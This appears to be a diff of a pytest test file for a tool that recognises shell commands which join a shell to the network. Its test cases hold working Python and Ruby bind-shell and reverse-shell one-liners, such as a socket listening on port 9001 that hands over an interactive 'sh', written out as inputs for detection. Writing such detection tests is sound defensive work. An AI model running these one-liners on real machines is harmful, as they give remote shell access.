@@ -89,8 +89,9 @@ def test_a_socket_or_a_process_alone_is_none(command):
         ("s.connect((os.environ['H'], 9001))", "\N{REPLACEMENT CHARACTER}", "connect"),
         ("s.connect(('localhost', 9001))", "127.0.0.1", "connect"),
         ("s.bind(('', 9001)); s.listen(1); c = s.accept()[0]", "0.0.0.0", "listen"),
+        ("s.bind(('127.0.0.1', 9001)); s.listen(1); c = s.accept()[0]", "127.0.0.1", "connect"),
     ],
-    ids=["of the environment", "of this machine", "waited for"],
+    ids=["of the environment", "of this machine", "waited for", "waited for from this machine"],
 )
 def test_the_other_end_is_named(code, host, action):
     facts = facts_of(f"python3 -c \"import os, socket, pty; s = socket.socket(); {code}; pty.spawn('sh')\"")
@@ -102,3 +103,18 @@ def test_a_whole_script_may_serve_and_start_programs():
     assert joins_a_shell(text)
     assert "shell_to_network" in traits_of(f"python3 - <<'E'\n{text}E\n")
     assert "shell_to_network" not in traits_of(f"cat > serve.py <<'E'\n{text}E\npython3 serve.py")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        'python3 -c \'import socket,os,pty; s=socket.socket(); s.bind(("0.0.0.0", 9001)); s.listen(1); '
+        'c=s.accept()[0]; os.dup2(c.fileno(), 0); pty.spawn("sh")\'',
+        "ruby -rsocket -e 's = TCPServer.new(9001).accept; exec sprintf(\"sh -i <&%d >&%d\", s, s)'",
+    ],
+    ids=["python", "ruby"],
+)
+def test_a_shell_that_waits_is_seen(command):
+    facts = facts_of(command)
+    assert any("shell_to_network" in each.traits for each in facts.commands)
+    assert any(each.action == "listen" for each in facts.network)
